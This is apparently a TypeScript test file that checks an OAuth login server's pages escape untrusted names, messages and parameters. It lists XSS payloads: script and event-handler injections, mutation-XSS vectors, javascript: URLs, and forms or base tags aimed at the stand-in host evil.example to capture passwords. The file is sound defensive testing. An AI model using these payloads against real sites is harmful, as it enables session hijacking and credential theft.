/** Whatever a stranger put into a name, a message or a parameter stays text on every page (security matrix 2.13). */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { formPostPage } from '../../../src/pages/form_post.ts'
import { homePage } from '../../../src/pages/home.ts'
import { loginPage } from '../../../src/pages/login.ts'
import { attribute, byId, type Element, elementsOf, textOf } from './document.ts'
import { plain, type Sample, samples } from './samples.ts'

const breakouts = [
  '',
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '-->',
  '</bdi>',
  '</textarea>',
  '`>',
  '\u0000">',
]

const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=password>',
  '<button formaction=https://evil.example>Sign in</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<object data=javascript:alert(1)>',
  '<!--',
  '<template shadowrootmode=open>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  'x onload=alert(1) ',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#x22;&quot;',
]

const payloads = breakouts.flatMap((breakout) => vectors.map((vector) => breakout + vector))

/** Everything but what a person reads or types: elements, attributes, addresses, the text of scripts and styles. */
const skeletonOf = (html: string): string[] =>
  elementsOf(html).map((element: Element) => {
    const attributes = element.attrs.map(({ name, value }) =>
      name === 'value' || carriesText(element, name) ? name : `${name}=${value}`,
    )
    const code = ['script', 'style'].includes(element.tagName) ? textOf(element) : ''
    return [element.tagName, ...attributes, code].join('|')
  })

/** Names of form_post fields, and addresses whose path or query holds the text (only their origin is compared). */
const carriesText = (element: Element, name: string): boolean => {
  if (name === 'name' && attribute(element, 'type') === 'hidden') return true
  const value = attribute(element, name) ?? ''
  const origins = ['https://client.example/', 'https://localhost:8443/']
  return (name === 'action' || name === 'href') && origins.some((origin) => value.startsWith(origin))
}

const plainSkeletons = new Map(samples.map((sample) => [sample.name, skeletonOf(sample.render(plain).html)]))

const staysText = (sample: Sample, places: string[], payload: string): void => {
  const actual = skeletonOf(sample.render((place) => (places.includes(place) ? payload : place)).html)
  assert.deepEqual(actual, plainSkeletons.get(sample.name), `${sample.name}, ${places}: ${payload}`)
}

for (const sample of samples)
  test(`T-XS-01 T-XS-03 – no text becomes markup on the ${sample.name} page`, () => {
    for (const payload of payloads) staysText(sample, sample.places, payload)
  })

test('T-XS-03 – no text at all changes the structure of any page', () => {
  const places = samples.flatMap((sample) => sample.places.map((place) => ({ sample, place })))
  // A value of the full alphabet, with the characters that matter to HTML far more often than chance would have them.
  const text = fc.string({
    unit: fc.oneof(fc.constantFrom(...'<>"\'&/=-!`; \n\0'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
    minLength: 1,
  })
  fc.assert(
    fc.property(fc.constantFrom(...places), text, ({ sample, place }, value) => staysText(sample, [place], value)),
    { numRuns: 500 },
  )
})

test('T-XS-02 – a form is never sent to a script, to data or to an address of another scheme', () => {
  const refused = [
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    ' javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    '/\\evil.example',
    'login',
    '',
  ]
  for (const action of refused) {
    assert.throws(() => formPostPage({ action, fields: {} }), action)
    assert.throws(() => loginPage({ clientName: 'c', csrf: 'x', action }), action)
    assert.throws(() => homePage({ issuer: action, version: '1' }), action)
  }
})

test('T-XS-02 – what form_post carries arrives as it was sent', () => {
  const state = '"><script>alert(1)</script>&amp;\'\u2028é\u{1f510}'
  const { html } = formPostPage({ action: 'https://client.example/cb?a=1&b=%22', fields: { state, code: 'c' } })
  const values = new Map(
    elementsOf(html)
      .filter((element) => element.tagName === 'input')
      .map((element) => [attribute(element, 'name'), attribute(element, 'value')]),
  )
  assert.deepEqual(
    [...values],
    [
      ['state', state],
      ['code', 'c'],
    ],
  )
  const form = elementsOf(html).find((element) => element.tagName === 'form')
  assert.equal(form && attribute(form, 'action'), 'https://client.example/cb?a=1&b=%22')
})

test('T-XS-01 – the error page says the code and the request id as text', () => {
  const { html } = samples.find((sample) => sample.name === 'error')?.render((place) => `<b>${place}</b>`) ?? {
    html: '',
  }
  const [code, requestId] = ['error-code', 'request-id'].map((id) => byId(html, id))
  assert.equal(code && textOf(code), '<b>code</b>')
  assert.equal(requestId && textOf(requestId), '<b>requestId</b>')
})
